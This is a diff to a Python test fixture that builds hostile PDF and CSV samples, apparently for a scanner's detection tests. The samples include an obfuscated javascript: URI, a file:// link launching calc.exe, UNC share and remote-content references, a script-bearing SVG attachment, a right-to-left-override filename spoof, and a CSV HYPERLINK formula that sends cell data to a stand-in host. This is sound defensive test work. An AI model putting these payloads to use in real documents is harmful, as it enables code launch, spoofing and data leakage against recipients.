@@ -9,7 +9,7 @@ from typing import Any
 import pikepdf
 from pikepdf import Array, Dictionary, Name
 
-from tests.vault import packed, samples
+from tests.vault import disguised, packed, samples
 from tests.vault.packed import R, Trap
 
 
@@ -49,6 +49,18 @@ def _nameless() -> bytes:
 
     def add(made: pikepdf.Pdf, page: Any) -> None:
         page["/PieceInfo"] = made.make_stream(b"MZ", Type=Name.EmbeddedFile)
+
+    return _on_page(add)
+
+
+def _borrowed(**about: Any) -> bytes:
+    """A picture of the page, whose content would be fetched."""
+
+    def add(made: pikepdf.Pdf, page: Any) -> None:
+        form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
+        for key, value in about.items():
+            form[f"/{key}"] = value
+        page["/Resources"] = Dictionary(XObject=Dictionary(F1=form))
 
     return _on_page(add)
 
@@ -103,6 +115,27 @@ PDFS: dict[str, Trap] = {
         _on_page(lambda _, page: page.update({"/AA": Dictionary(O=_launch())})),
         R.PDF_OPENING,
     ),
+    "a deed of a mark on a page": (
+        "a.pdf",
+        _annotation(
+            Subtype=Name.Link, AA=Dictionary(PV=Dictionary(S=Name.URI, URI="https://piege.test"))
+        ),
+        R.PDF_OPENING,
+    ),
+    "a script for an address": (
+        "a.pdf",
+        _acting(S=Name.URI, URI=" java\nscript:app.alert(1)"),
+        R.PDF_LAUNCH,
+    ),
+    "a file of this machine for an address": (
+        "a.pdf",
+        _acting(S=Name.URI, URI="file:///c:/windows/system32/calc.exe"),
+        R.PDF_LAUNCH,
+    ),
+    "a share for an address": ("a.pdf", _acting(S=Name.URI, URI=r"\\h\a"), R.PDF_LAUNCH),
+    "a page of another file": ("a.pdf", _borrowed(Ref=Dictionary(F="//h/a.pdf")), R.PDF_LAUNCH),
+    "a content that is elsewhere": ("a.pdf", _borrowed(F="//h/a.bin"), R.PDF_LAUNCH),
+    "a thread of another file": ("a.pdf", _acting(S=Name.Thread, F="//h/a.pdf"), R.PDF_LAUNCH),
     "a script by name": (
         "a.pdf",
         samples.pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", _js()])))),
@@ -116,6 +149,23 @@ PDFS: dict[str, Trap] = {
     "a program attached as data": (
         "a.pdf",
         samples.carrying(("facture.json", b"MZ\0\1")),
+        R.PDF_ATTACHED,
+    ),
+    "a drawing attached as data": (
+        "a.pdf",
+        samples.carrying(
+            ("a.xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>')
+        ),
+        R.PDF_ATTACHED,
+    ),
+    "a name that turns the writing round": (
+        "a.pdf",
+        samples.carrying(("facture\u202efdp.json", b"{}")),
+        R.PDF_ATTACHED,
+    ),
+    "a name that never ends": (
+        "a.pdf",
+        samples.carrying((f"{'a' * 200}.json", b"{}")),
         R.PDF_ATTACHED,
     ),
     "a script attached": (
@@ -181,4 +231,4 @@ OTHERS: dict[str, Trap] = {
     "a cell that links": ("a.csv", b'a,=HYPERLINK("https://piege.test?"&A1)\n', R.TEXT_FORMULA),
 }
 
-ALL = {**packed.ZIPS, **packed.OFFICE, **PDFS, **OTHERS}
+ALL = {**packed.ZIPS, **packed.OFFICE, **disguised.WRITTEN, **PDFS, **OTHERS}
